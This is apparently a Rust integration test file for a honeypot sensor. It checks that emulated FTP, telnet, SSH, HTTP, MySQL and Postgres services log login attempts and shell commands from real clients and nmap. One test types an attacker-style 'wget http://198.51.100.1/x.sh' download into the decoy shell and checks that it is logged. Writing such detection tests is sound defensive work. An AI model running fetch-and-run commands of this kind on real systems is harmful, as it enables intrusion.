//! The emulated services against the real clients users have (curl, lftp, telnet, ssh with
//! sshpass, mariadb, psql, openssl) and against `nmap -sV`, on loopback. Each test compares the
//! exact events produced (full JSON, run-dependent fields masked).

mod harness;

use std::time::Duration;

use harness::{Harness, assert_well_formed, expected, normalized, run};
use sensor::event::{Action, Service};
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

const LIMIT: Duration = Duration::from_secs(30);

fn no_limits() -> Value {
    json!({})
}

#[tokio::test(flavor = "multi_thread")]
async fn ftp_logins_from_curl_lftp_and_a_pipelining_client() {
    let mut h = Harness::start(
        json!({"ftp": [{"port": 0, "banner": "Microsoft FTP Service"}]}),
        no_limits(),
    )
    .await;
    let addr = h.addr(Service::Ftp);
    let port = addr.port();

    let out = run(
        "curl",
        &[
            "-s",
            "--max-time",
            "10",
            "--user",
            "alice:wonder land",
            &format!("ftp://{addr}/"),
        ],
        &[],
        LIMIT,
    )
    .await;
    assert_eq!(out.status.code(), Some(67), "curl reports a refused login");
    let events = h.until(Action::Login, 1, LIMIT).await;
    assert_well_formed(&events);
    let got: Vec<Value> = events.iter().map(normalized).collect();
    assert_eq!(
        got,
        vec![
            expected("ftp", "connection", port, b"", json!({})),
            expected("ftp", "data", port, b"USER alice\r\n", json!({})),
            expected("ftp", "data", port, b"PASS wonder land\r\n", json!({})),
            expected(
                "ftp",
                "login",
                port,
                b"",
                json!({"username": "alice", "password": "wonder land"})
            ),
        ]
    );

    let script = format!(
        "set net:max-retries 1; set net:reconnect-interval-base 1; set ftp:ssl-allow no; \
         open -u bob,hunter2 ftp://{addr}; ls; quit"
    );
    let _ = run("lftp", &["-c", &script], &[], LIMIT).await;
    let events = h.until(Action::Login, 1, LIMIT).await;
    let logins: Vec<&sensor::event::Event> = events
        .iter()
        .filter(|e| e.action == Action::Login)
        .collect();
    assert_eq!(
        logins[0].extra.get("username"),
        Some(&json!("bob")),
        "{events:?}"
    );
    assert_eq!(logins[0].extra.get("password"), Some(&json!("hunter2")));

    // USER, PASS and QUIT in one segment: every command is answered and logged.
    let mut s = tokio::net::TcpStream::connect(addr).await.unwrap();
    s.write_all(b"USER carol\r\nPASS pipelined\r\nQUIT\r\n")
        .await
        .unwrap();
    let mut reply = Vec::new();
    tokio::time::timeout(LIMIT, s.read_to_end(&mut reply))
        .await
        .unwrap()
        .unwrap();
    let reply = String::from_utf8_lossy(&reply);
    assert!(
        reply.starts_with("220 Microsoft FTP Service\r\n"),
        "{reply}"
    );
    assert!(reply.contains("331 Password required\r\n530 User cannot log in.\r\n221 Goodbye.\r\n"));
    let events = h.until(Action::Login, 1, LIMIT).await;
    let got: Vec<Value> = events.iter().map(normalized).collect();
    let local = got[0]["dst_port"].clone();
    assert_eq!(local, json!(port));
    assert_eq!(got.len(), 5, "{got:?}");
    assert_eq!(
        got[3],
        expected(
            "ftp",
            "login",
            port,
            b"",
            json!({"username": "carol", "password": "pipelined"})
        )
    );
    assert_eq!(got[4]["data"], json!(hex::encode("QUIT\r\n")));
    h.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn telnet_logins_in_line_mode_and_char_at_a_time() {
    let mut h = Harness::start(
        json!({"telnet": [{"port": 0, "version": "Cisco IOS"}]}),
        no_limits(),
    )
    .await;
    let addr = h.addr(Service::Telnet);
    let port = addr.port();

    // The real telnet client, fed from a pipe: it sends whole lines.
    let cmd = format!(
        "(sleep 1; echo admin; sleep 0.5; echo cisco123; sleep 1) | telnet {} {}",
        addr.ip(),
        port
    );
    let _ = run("sh", &["-c", &cmd], &[("TERM", "vt100")], LIMIT).await;
    let events = h.until(Action::Login, 1, LIMIT).await;
    assert_well_formed(&events);
    let got: Vec<Value> = events.iter().map(normalized).collect();
    assert_eq!(
        got,
        vec![
            expected("telnet", "connection", port, b"", json!({})),
            expected(
                "telnet",
                "login",
                port,
                b"",
                json!({"username": "admin", "password": "cisco123", "terminal_type": "VT100"})
            ),
        ]
    );

    // A char-at-a-time client that answers the negotiation and types with a backspace.
    let mut s = tokio::net::TcpStream::connect(addr).await.unwrap();
    let mut greeting = vec![0u8; 256];
    let n = tokio::time::timeout(LIMIT, s.read(&mut greeting))
        .await
        .unwrap()
        .unwrap();
    assert!(greeting[..n].starts_with(b"\xff\xfb\x01\xff\xfb\x03\xff\xfd\x18\xff\xfd\x1f"));
    s.write_all(
        b"\xff\xfd\x01\xff\xfd\x03\xff\xfb\x18\xff\xfb\x1f\xff\xfa\x1f\x00\x50\x00\x18\xff\xf0",
    )
    .await
    .unwrap();
    for b in b"rooo\x7ft\r\0toor\r\n" {
        s.write_all(&[*b]).await.unwrap();
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    let events = h.until(Action::Login, 1, LIMIT).await;
    let login = events.iter().find(|e| e.action == Action::Login).unwrap();
    assert_eq!(login.extra.get("username"), Some(&json!("root")));
    assert_eq!(login.extra.get("password"), Some(&json!("toor")));
    h.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn ssh_password_and_public_key_attempts_from_openssh() {
    let mut h = Harness::start(json!({"ssh": [{"port": 0}]}), no_limits()).await;
    let addr = h.addr(Service::Ssh);
    let port = addr.port();
    let dir = harness::temp_dir("ssh-client");
    let known = dir.join("known_hosts");
    let known = known.to_str().unwrap();
    let port_s = port.to_string();
    let out = run(
        "sshpass",
        &[
            "-p",
            "S3cr3t!",
            "ssh",
            "-o",
            "StrictHostKeyChecking=no",
            "-o",
            &format!("UserKnownHostsFile={known}"),
            "-o",
            "PubkeyAuthentication=no",
            "-o",
            "NumberOfPasswordPrompts=1",
            "-p",
            &port_s,
            "admin@127.0.0.1",
            "true",
        ],
        &[],
        LIMIT,
    )
    .await;
    assert_ne!(out.status.code(), Some(0), "the login must fail");
    let events = h.until(Action::Login, 1, LIMIT).await;
    assert_well_formed(&events);
    let got: Vec<Value> = events.iter().map(normalized).collect();
    let client_version = got[1]["extra"]["client_version"].clone();
    assert!(
        client_version
            .as_str()
            .unwrap()
            .starts_with("SSH-2.0-OpenSSH_"),
        "{client_version}"
    );
    assert_eq!(
        got,
        vec![
            expected("ssh", "connection", port, b"", json!({})),
            expected(
                "ssh",
                "login",
                port,
                b"",
                json!({"username": "admin", "client_version": client_version, "password": "S3cr3t!"})
            ),
        ]
    );

    let key = dir.join("id_ed25519");
    let keygen = run(
        "ssh-keygen",
        &["-q", "-t", "ed25519", "-N", "", "-f", key.to_str().unwrap()],
        &[],
        LIMIT,
    )
    .await;
    assert!(keygen.status.success());
    let fingerprint = run(
        "ssh-keygen",
        &["-l", "-E", "sha256", "-f", key.to_str().unwrap()],
        &[],
        LIMIT,
    )
    .await;
    let fingerprint = String::from_utf8_lossy(&fingerprint.stdout)
        .split_whitespace()
        .nth(1)
        .unwrap()
        .to_owned();
    let public = std::fs::read_to_string(dir.join("id_ed25519.pub")).unwrap();
    let public: Vec<&str> = public.split_whitespace().take(2).collect();
    let _ = run(
        "ssh",
        &[
            "-o",
            "BatchMode=yes",
            "-o",
            "StrictHostKeyChecking=no",
            "-o",
            &format!("UserKnownHostsFile={known}"),
            "-o",
            "IdentitiesOnly=yes",
            "-i",
            key.to_str().unwrap(),
            "-p",
            &port_s,
            "root@127.0.0.1",
            "true",
        ],
        &[],
        LIMIT,
    )
    .await;
    let events = h.until(Action::Login, 1, LIMIT).await;
    let login = events.iter().find(|e| e.action == Action::Login).unwrap();
    assert_eq!(login.extra.get("username"), Some(&json!("root")));
    assert_eq!(login.extra.get("key_type"), Some(&json!("ssh-ed25519")));
    assert_eq!(login.extra.get("fingerprint"), Some(&json!(fingerprint)));
    assert_eq!(
        login.extra.get("public_key"),
        Some(&json!(public.join(" ")))
    );

    h.stop().await;
    let _ = std::fs::remove_dir_all(dir);
}

#[tokio::test(flavor = "multi_thread")]
async fn http_queries_basic_auth_and_form_logins_from_curl() {
    let mut h = Harness::start(
        json!({
            "http": [{"port": 0, "skin": "default_apache"}, ],
            "https": [{"port": 0, "skin": "appliance_login", "common_name": "fw.corp.example"}]
        }),
        no_limits(),
    )
    .await;
    let addr = h.addr(Service::Http);
    let port = addr.port();
    let out = run(
        "curl",
        &["-s", "-i", "-A", "curl/test", &format!("http://{addr}/")],
        &[],
        LIMIT,
    )
    .await;
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.starts_with("HTTP/1.1 200 OK\r\nDate: "), "{text}");
    assert!(text.contains("\r\nServer: Apache/2.4.62 (Debian)\r\n"));
    assert!(text.contains("Apache2 Debian Default Page"));
    let events = h.until(Action::Query, 1, LIMIT).await;
    assert_well_formed(&events);
    let got: Vec<Value> = events.iter().map(normalized).collect();
    assert_eq!(
        got,
        vec![
            expected("http", "connection", port, b"", json!({})),
            expected(
                "http",
                "query",
                port,
                b"",
                json!({
                    "skin": "default_apache",
                    "method": "GET",
                    "target": "/",
                    "version": "1.1",
                    "headers": {"host": addr.to_string(), "user-agent": "curl/test", "accept": "*/*"},
                    "status_code": 200
                })
            ),
        ]
    );

    let _ = run(
        "curl",
        &[
            "-s",
            "-u",
            "admin:P@ss:word",
            &format!("http://{addr}/secret"),
        ],
        &[],
        LIMIT,
    )
    .await;
    let events = h.until(Action::Login, 1, LIMIT).await;
    let login = events.iter().find(|e| e.action == Action::Login).unwrap();
    assert_eq!(login.extra.get("username"), Some(&json!("admin")));
    assert_eq!(login.extra.get("password"), Some(&json!("P@ss:word")));
    assert_eq!(login.extra.get("status_code"), Some(&json!(404)));

    let https = h.addr(Service::Https);
    let out = run(
        "curl",
        &[
            "-s",
            "-k",
            "-d",
            "username=netadmin&password=Winter%2125",
            &format!("https://{https}/login"),
        ],
        &[],
        LIMIT,
    )
    .await;
    assert!(String::from_utf8_lossy(&out.stdout).contains("Authentication failed"));
    let events = h.until(Action::Login, 1, LIMIT).await;
    let got: Vec<Value> = events.iter().map(normalized).collect();
    let login = got.iter().find(|e| e["logtype"] == "https.login").unwrap();
    assert_eq!(login["extra"]["username"], "netadmin");
    assert_eq!(login["extra"]["password"], "Winter!25");
    assert_eq!(login["extra"]["skin"], "appliance_login");
    assert_eq!(
        login["data"],
        json!(hex::encode("username=netadmin&password=Winter%2125"))
    );

    // The certificate names the configured common name.
    let out = run(
        "sh",
        &["-c", &format!("openssl s_client -connect {https} </dev/null 2>/dev/null | openssl x509 -noout -subject")],
        &[],
        LIMIT,
    )
    .await;
    let subject = String::from_utf8_lossy(&out.stdout);
    assert!(
        subject.contains("CN = fw.corp.example") || subject.contains("CN=fw.corp.example"),
        "{subject}"
    );
    h.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn mysql_login_from_mariadb_gives_cleartext_and_a_hashcat_line() {
    let mut h = Harness::start(
        json!({"mysql": [{"port": 0, "version": "8.0.36", "auth_plugin": "mysql_native_password", "ssl": false}]}),
        no_limits(),
    )
    .await;
    let addr = h.addr(Service::Mysql);
    let port_s = addr.port().to_string();
    let out = run(
        "mariadb",
        &[
            "-h",
            "127.0.0.1",
            "-P",
            &port_s,
            "-u",
            "dbadmin",
            "-pTr0ub4dor",
            "--connect-timeout=10",
            "-e",
            "select 1",
        ],
        &[],
        LIMIT,
    )
    .await;
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains(
            "ERROR 1045 (28000): Access denied for user 'dbadmin'@'127.0.0.1' (using password: YES)"
        ),
        "{err}"
    );
    let events = h.until(Action::Login, 1, LIMIT).await;
    assert_well_formed(&events);
    let login = events.iter().find(|e| e.action == Action::Login).unwrap();
    assert_eq!(login.extra.get("username"), Some(&json!("dbadmin")));
    assert_eq!(login.extra.get("password"), Some(&json!("Tr0ub4dor")));
    // The hashcat line verifies against the password: SHA1(p) xor SHA1(salt + SHA1(SHA1(p))).
    let line = login.extra.get("hashcat").and_then(Value::as_str).unwrap();
    let (salt, response) = line
        .strip_prefix("$mysqlna$")
        .unwrap()
        .split_once('*')
        .unwrap();
    let salt = hex::decode(salt).unwrap();
    let response = hex::decode(response).unwrap();
    use sha1::Digest as _;
    let s1 = sha1::Sha1::digest(b"Tr0ub4dor");
    let s2 = sha1::Sha1::digest(s1);
    let mut h3 = sha1::Sha1::new();
    h3.update(&salt);
    h3.update(s2);
    let s3 = h3.finalize();
    let expect: Vec<u8> = s1.iter().zip(s3.iter()).map(|(a, b)| a ^ b).collect();
    assert_eq!(response, expect);
    let attrs = login.extra.get("client_attributes").unwrap();
    assert_eq!(attrs["_client_name"], "libmariadb");
    h.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn postgres_logins_from_psql_with_every_sslmode() {
    let mut h = Harness::start(
        json!({"postgres": [{"port": 0, "auth": "cleartext"}]}),
        no_limits(),
    )
    .await;
    let addr = h.addr(Service::Postgres);
    let port = addr.port();
    // With `prefer`, libpq retries without TLS after a refused login, as against a real server.
    for (mode, attempts) in [
        ("disable", &[false][..]),
        ("prefer", &[true, false][..]),
        ("require", &[true][..]),
    ] {
        let conninfo = format!(
            "host=127.0.0.1 port={port} user=app_{mode} dbname=billing sslmode={mode} connect_timeout=10"
        );
        let out = run(
            "psql",
            &[&conninfo, "-c", "select 1"],
            &[("PGPASSWORD", "pg-pass")],
            LIMIT,
        )
        .await;
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(
            err.contains(&format!(
                "FATAL:  password authentication failed for user \"app_{mode}\""
            )),
            "{mode}: {err}"
        );
        let events = h.until(Action::Login, attempts.len(), LIMIT).await;
        assert_well_formed(&events);
        let got: Vec<Value> = events.iter().map(normalized).collect();
        let want: Vec<Value> = attempts
            .iter()
            .flat_map(|tls| {
                [
                    expected("postgres", "connection", port, b"", json!({})),
                    expected(
                        "postgres",
                        "login",
                        port,
                        b"",
                        json!({
                            "username": format!("app_{mode}"),
                            "password": "pg-pass",
                            "database": "billing",
                            "application_name": "psql",
                            "tls": tls,
                            "server_version": "15.8"
                        }),
                    ),
                ]
            })
            .collect();
        assert_eq!(got, want, "sslmode={mode}");
    }
    h.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn nmap_version_detection_names_every_imitated_product() {
    let h = Harness::start(
        json!({
            // Each module's own product, whatever the default persona picks.
            "ftp": [{"port": 0, "banner": "Microsoft FTP Service"}],
            "telnet": [{"port": 0, "version": "Cisco IOS"}],
            "ssh": [{"port": 0}],
            "http": [{"port": 0, "skin": "default_apache"}],
            "https": [{"port": 0, "skin": "default_iis"}],
            "mysql": [{"port": 0, "version": "8.0.36"}],
            "postgres": [{"port": 0}]
        }),
        no_limits(),
    )
    .await;
    let expect = [
        (Service::Ftp, "ftp", "Microsoft ftpd"),
        (Service::Telnet, "telnet", "Cisco IOS telnetd"),
        (Service::Ssh, "ssh", "OpenSSH 9.2p1 Debian 2+deb12u7"),
        (Service::Http, "http", "Apache httpd 2.4.62 ((Debian))"),
        (Service::Https, "ssl/http", "Microsoft IIS httpd 10.0"),
        (Service::Mysql, "mysql", "MySQL 8.0.36"),
        (Service::Postgres, "postgresql", "PostgreSQL DB"),
    ];
    let ports: Vec<String> = expect
        .iter()
        .map(|(s, _, _)| h.addr(*s).port().to_string())
        .collect();
    let out = run(
        "nmap",
        &[
            "-sV",
            "-Pn",
            "-n",
            "--version-intensity",
            "7",
            "-p",
            &ports.join(","),
            "127.0.0.1",
        ],
        &[],
        Duration::from_secs(240),
    )
    .await;
    let report = String::from_utf8_lossy(&out.stdout);
    for ((_, name, product), port) in expect.iter().zip(&ports) {
        let line = report
            .lines()
            .find(|l| l.starts_with(&format!("{port}/tcp")))
            .unwrap_or_else(|| panic!("no line for {port}: {report}"));
        assert!(line.contains(&format!(" {name} ")), "{line}");
        assert!(line.contains(product), "{line}\n{report}");
    }
    h.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn services_listen_on_ipv6_too() {
    let mut h = Harness::start(json!({"ftp": [{"port": 0}]}), no_limits()).await;
    let addr = h.addr6(Service::Ftp);
    let mut s = tokio::net::TcpStream::connect(addr).await.unwrap();
    s.write_all(b"USER v6\r\nPASS six\r\n").await.unwrap();
    let events = h.until(Action::Login, 1, LIMIT).await;
    let login = events.iter().find(|e| e.action == Action::Login).unwrap();
    assert_eq!(login.session.src_ip.to_string(), "::1");
    assert_eq!(login.session.dst_ip.to_string(), "::1");
    h.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn whitelisted_sources_are_served_but_not_reported() {
    let state = harness::temp_dir("wl");
    let mut h = Harness::start_in(
        json!({"ftp": [{"port": 0}]}),
        json!({}),
        state,
        json!(["127.0.0.0/8"]),
    )
    .await;
    let addr = h.addr(Service::Ftp);
    let mut s = tokio::net::TcpStream::connect(addr).await.unwrap();
    s.write_all(b"USER scanner\r\nPASS x\r\nQUIT\r\n")
        .await
        .unwrap();
    let mut reply = Vec::new();
    tokio::time::timeout(LIMIT, s.read_to_end(&mut reply))
        .await
        .unwrap()
        .unwrap();
    assert!(reply.starts_with(b"220 "));
    // The session has ended, so anything it reported is queued by now.
    assert!(h.wait_idle(LIMIT).await);
    assert!(h.drain(Duration::from_millis(500), LIMIT).await.is_empty());
    assert_eq!(h.counters()["whitelisted"], 1);
    h.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn ssh_configured_user_gets_a_shell_whose_commands_are_logged() {
    let mut h = Harness::start(
        json!({"ssh": [{"port": 0, "users": {"admin": "Spring2025"}}]}),
        no_limits(),
    )
    .await;
    let addr = h.addr(Service::Ssh);
    let port = addr.port();
    let dir = harness::temp_dir("ssh-shell");
    let known = format!("UserKnownHostsFile={}", dir.join("known_hosts").display());
    let port_s = port.to_string();
    let out = run(
        "sshpass",
        &[
            "-p",
            "Spring2025",
            "ssh",
            "-o",
            "StrictHostKeyChecking=no",
            "-o",
            &known,
            "-p",
            &port_s,
            "admin@127.0.0.1",
            "id",
        ],
        &[],
        LIMIT,
    )
    .await;
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(
        String::from_utf8_lossy(&out.stdout),
        "uid=1000(admin) gid=1000(admin) groups=1000(admin),27(sudo)\n"
    );
    let events = h.until(Action::Query, 1, LIMIT).await;
    let got: Vec<Value> = events.iter().map(normalized).collect();
    assert_eq!(
        got.last().unwrap(),
        &expected(
            "ssh",
            "query",
            port,
            b"id",
            json!({"username": "admin", "command": "id", "mode": "exec"})
        )
    );
    // An interactive shell: each typed line is one query, `exit` ends the session.
    let script = format!(
        "(sleep 1; echo 'uname -a'; sleep 0.5; echo 'wget http://198.51.100.1/x.sh'; sleep 0.5; echo exit) \
         | sshpass -p Spring2025 ssh -tt -o StrictHostKeyChecking=no -o {known} -p {port} admin@127.0.0.1"
    );
    let out = run("sh", &["-c", &script], &[], LIMIT).await;
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("admin@srv01:~$ "), "{text}");
    assert!(text.contains("GNU/Linux"), "{text}");
    assert!(
        // An address is not resolved: real wget goes straight to connecting, and the decoy
        // is a host without a route out.
        text.contains("Connecting to 198.51.100.1:80... failed: Network is unreachable."),
        "{text}"
    );
    let events = h.until(Action::Query, 3, LIMIT).await;
    let commands: Vec<(&str, &str)> = events
        .iter()
        .filter(|e| e.action == Action::Query)
        .filter_map(|e| Some((e.extra["mode"].as_str()?, e.extra["command"].as_str()?)))
        .collect();
    assert_eq!(
        commands,
        [
            ("shell", "uname -a"),
            ("shell", "wget http://198.51.100.1/x.sh"),
            ("download", "wget")
        ]
    );
    h.stop().await;
    let _ = std::fs::remove_dir_all(dir);
}

/// Host keys (RSA 3072) are generated on the blocking pool: on a single-threaded runtime the
/// start of an SSH instance with an empty state directory is still pending after the runtime
/// got the thread back, instead of holding it for the whole generation.
#[tokio::test(flavor = "current_thread")]
async fn host_key_generation_does_not_hold_the_runtime() {
    let state = harness::temp_dir("keygen");
    let config = json!({
        "interface": "lo",
        "services": {"ssh": [{"port": 0}]},
        "sensor": {"services": {"state_dir": state, "ephemeral_ports": true}},
    });
    let config = sensor::config::Config::parse(&config.to_string(), "test").unwrap();
    let plan = config.services_plan();
    let (tx, _rx) = tokio::sync::mpsc::channel(16);
    let token = sensor::shutdown::CancellationToken::new();
    let start = tokio::spawn(async move { sensor::services::start(&plan, tx, &token).await });
    // Lets the start task run up to its first await.
    for _ in 0..3 {
        tokio::task::yield_now().await;
    }
    assert!(
        !start.is_finished(),
        "the start finished without giving the thread back: keys were made on the runtime"
    );
    let services = tokio::time::timeout(Duration::from_secs(120), start)
        .await
        .unwrap()
        .unwrap()
        .unwrap();
    assert!(state.join("ssh-0-host-rsa.key").is_file());
    services.stop(Duration::from_secs(1)).await;
    std::fs::remove_dir_all(state).unwrap();
}

/// A skin folder (`skin_dirs`): templates and static files are read on the blocking pool, and
/// answered exactly.
#[tokio::test(flavor = "multi_thread")]
async fn a_skin_folder_is_served_with_its_templates_and_files() {
    let skins = harness::temp_dir("skins");
    let root = skins.join("intranet");
    std::fs::create_dir_all(root.join("templates")).unwrap();
    std::fs::create_dir_all(root.join("files/static")).unwrap();
    std::fs::write(
        root.join("config.yaml"),
        "name: intranet\nheaders:\n  Server: nginx\nserver_style: nginx\nendpoints:\n  - \"/\":\n    - method: GET\n      file: index.html\ndefault:\n  status_code: 404\n  content: gone\n",
    )
    .unwrap();
    std::fs::write(root.join("templates/index.html"), "hello {{ hostname }}").unwrap();
    std::fs::write(root.join("files/static/app.css"), "body{}").unwrap();
    let mut h = Harness::start(
        json!({"http": [{"port": 0, "skin": "intranet"}]}),
        json!({"skin_dirs": [skins]}),
    )
    .await;
    let addr = h.addr(Service::Http);
    let get = |path: &'static str| async move {
        let mut s = tokio::net::TcpStream::connect(addr).await.unwrap();
        s.write_all(format!("GET {path} HTTP/1.0\r\n\r\n").as_bytes())
            .await
            .unwrap();
        let mut out = Vec::new();
        tokio::time::timeout(LIMIT, s.read_to_end(&mut out))
            .await
            .unwrap()
            .unwrap();
        let text = String::from_utf8(out).unwrap();
        let (head, body) = text.split_once("\r\n\r\n").unwrap();
        (head.lines().next().unwrap().to_owned(), body.to_owned())
    };
    assert_eq!(
        get("/").await,
        ("HTTP/1.1 200 OK".to_owned(), "hello srv01".to_owned())
    );
    assert_eq!(
        get("/static/app.css").await,
        ("HTTP/1.1 200 OK".to_owned(), "body{}".to_owned())
    );
    assert_eq!(
        get("/nope").await,
        ("HTTP/1.1 404 Not Found".to_owned(), "gone".to_owned())
    );
    let events = h.until(Action::Query, 3, LIMIT).await;
    let statuses: Vec<_> = events
        .iter()
        .filter(|e| e.action == Action::Query)
        .map(|e| e.extra["status_code"].clone())
        .collect();
    assert_eq!(statuses, vec![json!(200), json!(200), json!(404)]);
    h.stop().await;
    std::fs::remove_dir_all(skins).unwrap();
}
